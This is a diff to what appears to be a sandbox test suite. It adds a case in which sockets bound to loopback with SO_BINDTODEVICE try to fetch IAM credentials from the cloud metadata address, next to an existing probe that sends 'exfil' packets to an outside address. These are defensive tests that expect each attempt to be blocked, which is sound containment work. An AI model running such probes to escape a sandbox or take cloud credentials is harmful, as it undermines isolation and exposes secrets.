@@ -3,7 +3,9 @@ and the harness's ports, abstract Unix sockets of the host, raw sockets and rout
 
 Defence: a network namespace with only its own loopback and no route anywhere; abstract Unix
 sockets are per network namespace; no CAP_NET_RAW or CAP_NET_ADMIN. Packets to addresses without
-a route are counted by the kernel (Ip.OutNoRoutes, Ip6.OutNoRoutes) and flagged network_blocked."""
+a route are counted by the kernel (Ip.OutNoRoutes, Ip6.OutNoRoutes) and flagged network_blocked;
+packets a socket bound to lo sends to anything but loopback (no route needed: the kernel takes the
+address for on-link) are dropped and counted by the namespace's nftables loopback guard."""
 
 from __future__ import annotations
 
@@ -46,6 +48,22 @@ for port in (9, 53, 123, 514):
         u.sendto(b'exfil', ('203.0.113.7', port))
     except OSError as exc:
         print(port, exc)
+""", limit_s=10)]
+
+
+def _lo_bound(task: Task, target: str | None) -> list[ScriptTurn]:
+    return [py("""
+import socket
+for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+    s = socket.socket(socket.AF_INET, kind)
+    s.settimeout(1)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'lo')
+    try:
+        s.connect(('169.254.169.254', 80))
+        s.send(b'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\r\\n\\r\\n')
+        print('sent', kind)
+    except OSError as exc:
+        print(kind, exc)
 """, limit_s=10)]
 
 
@@ -107,6 +125,8 @@ ATTACKS: list[Attack] = [
            _connect("192.0.2.1", 80)),
     Attack("metadata-endpoint", "network", "query the cloud metadata endpoint", "network namespace without routes", BLOCKED,
            _connect("169.254.169.254", 80)),
+    Attack("metadata-via-lo", "network", "send to the cloud metadata address from sockets bound to lo (SO_BINDTODEVICE), which needs no route",
+           "the namespace's nftables loopback guard drops packets leaving lo for non-loopback addresses", BLOCKED, _lo_bound),
     Attack("ipv6-internet", "network", "reach the internet over IPv6", "network namespace without routes", BLOCKED,
            _connect("2001:4860:4860::8888", 443, "AF_INET6")),
     Attack("dns-lookup", "network", "resolve names and send raw DNS queries to public resolvers", "no resolver, no route", BLOCKED, _dns),
